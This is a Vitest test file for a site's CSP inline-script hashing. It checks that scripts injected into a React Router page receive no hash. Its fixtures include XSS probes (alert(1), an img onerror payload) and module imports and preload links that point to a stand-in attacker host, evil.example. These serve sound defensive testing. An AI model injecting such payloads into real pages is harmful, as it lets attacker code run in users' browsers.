import { createHash } from "node:crypto";
import { headScript } from "virtual:browser-scripts";
import { describe, expect, it } from "vitest";
import { hydrateAfterPaint, preloadStatement, RESTORE_SCROLL } from "./framework-output.ts";
import { contentSecurityPolicy, inlineScriptHashes } from "./security-headers.ts";

const HEAD_SCRIPT = headScript.text;
const hash = (body: string) => `'sha256-${createHash("sha256").update(body, "utf8").digest("base64")}'`;

/**
 * A page with the inline scripts React Router 8.4 renders (route discovery "lazy"), in the shapes
 * server/framework-output.ts pins (`<Scripts>`, `<ScrollRestoration>`, the streamed loader data), and
 * the cookie-notice snippet of app/root.tsx. server/framework-output.test.ts checks those shapes, and
 * React's streaming runtime, on pages React Router really renders; tests/reliability/cross-origin.test.ts
 * on the production build's.
 */
const SCROLL = `(${RESTORE_SCROLL})("react-router-scroll-positions", null)`;
const CONTEXT = `window.__reactRouterContext = {"basename":"/","future":{"unstable_optimizeDeps":false},"routeDiscovery":{"mode":"lazy","manifestPath":"/__manifest"},"ssr":true,"isSpaMode":false};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());`;
const ENQUEUE = `window.__reactRouterContext.streamController.enqueue(${JSON.stringify(JSON.stringify([{ _1: 2 }, "loaderData", "Tor \u003cscript\u003e"]))});`;
const CLOSE = "window.__reactRouterContext.streamController.close();";
const BOOTSTRAP = `;
import * as route0 from "/assets/root-A.js";
import * as route1 from "/assets/home-B.js";
  window.__reactRouterManifest = {
  "entry": {
    "module": "/assets/entry.client-C.js",
    "imports": ["/assets/chunk-D.js"],
    "css": []
  },
  "routes": {"root": {"id": "root", "module": "/assets/root-A.js"}},
  "url": "/assets/manifest-1.js",
  "version": "1"
};
  window.__reactRouterRouteModules = {"root":route0,"home-de":route1};

import("/assets/entry.client-C.js");`;
const OWN = [HEAD_SCRIPT, SCROLL, CONTEXT, ENQUEUE, CLOSE];

const page = (body: string, bootstrap = BOOTSTRAP) =>
  `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/entry.client-C.js"/><link rel="modulepreload" href="/assets/root-A.js"/>` +
  `<script>${HEAD_SCRIPT}</script></head><body><main>${body}</main><script>${SCROLL}</script>` +
  `<script>${CONTEXT}</script><script type="module" async="">${bootstrap}</script><script>${ENQUEUE}</script><script>${CLOSE}</script></body></html>`;

const bootstrapOf = (html: string) => /<script type="module" async="">([\s\S]*?)<\/script>/.exec(html)![1]!;

describe("inlineScriptHashes", () => {
  it("hashes React Router's scripts and the cookie notice, as rendered and after the ADR 0700 rewrite", () => {
    const html = page("<p>Hallo</p>");
    expect(inlineScriptHashes(html).sort()).toEqual([...OWN, BOOTSTRAP].map(hash).sort());
    const rewritten = hydrateAfterPaint(html);
    expect(rewritten.mismatch).toBeUndefined();
    expect(inlineScriptHashes(rewritten.html).sort()).toEqual([...OWN, bootstrapOf(rewritten.html)].map(hash).sort());
  });

  it("gives a script injected into the body no hash", () => {
    const injected = [
      "alert(1)",
      `${HEAD_SCRIPT};alert(1)`,
      `window.__reactRouterContext.streamController.enqueue("x");alert(1);`,
      `window.__reactRouterContext.streamController.enqueue("x");alert("1");`,
      `window.__reactRouterContext = {};alert(1);window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());`,
      SCROLL.replace("null)", "alert(1))"),
      SCROLL.replace("console.error(error);", "alert(1);"),
    ];
    for (const script of injected) {
      const hashes = inlineScriptHashes(page(`<p>Tor!</p><script>${script}</script>`));
      expect(hashes, script).not.toContain(hash(script));
      expect(hashes, script).toHaveLength(OWN.length + 1);
    }
  });

  it("gives an injected module script no hash, even one shaped like React Router's bootstrap", () => {
    const injected = [
      "alert(1)",
      `import * as route0 from "/assets/root-A.js";\nalert(1);`,
      `import("https://evil.example/x.js");`,
      `import("//evil.example/x.js");`,
      `window.__reactRouterManifest = {"a":1};alert(1);`,
      `window.__reactRouterRouteModules = {"root":alert(1)};`,
      `document.head.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>");`,
      preloadStatement(JSON.stringify(["<img src=x onerror=alert(1)>"])),
      preloadStatement(JSON.stringify(['<link rel="modulepreload" href="//evil.example/x.js">'])),
      `const [route0] = await Promise.all([import("/x.js")]);fetch("/api")`,
      "",
    ];
    for (const script of injected) {
      const html = page(`<script type="module" async="">${script}</script>`);
      expect(inlineScriptHashes(html), script).not.toContain(hash(script));
    }
  });

  it("leaves scripts with other attributes, src or a JSON type alone", () => {
    const html = `<script nonce="x">${HEAD_SCRIPT}</script><script type="module">import "/x.js"</script><script src="/y.js"></script><script type="application/ld+json">{"@type":"Thing"}</script>`;
    expect(inlineScriptHashes(html)).toEqual([]);
    expect(inlineScriptHashes(`<script>${HEAD_SCRIPT}</script>`)).toEqual([hash(HEAD_SCRIPT)]);
  });
});

describe("contentSecurityPolicy", () => {
  it("allows scripts from the site and the given hashes only", () => {
    expect(contentSecurityPolicy([], false)).toContain("script-src 'self';");
    expect(contentSecurityPolicy(["'sha256-x'"], true)).toContain("script-src 'self' 'sha256-x';");
    expect(contentSecurityPolicy([], false)).not.toContain("unsafe-inline' ;");
  });
});
